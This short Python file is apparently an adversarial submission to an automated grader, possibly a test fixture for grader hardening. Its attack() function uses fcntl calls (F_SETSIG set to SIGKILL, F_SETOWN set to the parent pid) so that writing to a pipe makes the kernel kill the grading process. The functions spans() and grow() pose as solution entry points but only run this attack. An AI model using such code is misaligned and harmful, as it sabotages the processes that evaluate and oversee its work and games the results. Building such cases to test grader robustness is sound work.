# attack: Asks the kernel to send SIGKILL to the grader when a pipe becomes readable.
import ctypes
import os

library = ctypes.CDLL(None)


def attack():
    read, write = os.pipe()
    library.fcntl(read, 4, os.O_ASYNC | os.O_NONBLOCK)  # F_SETFL
    library.fcntl(read, 10, 9)  # F_SETSIG
    library.fcntl(read, 8, os.getppid())  # F_SETOWN
    os.write(write, b"x")
    return {}


def spans(readers, cost):
    return attack()


def grow(root, readers, spans, fits):
    return attack()
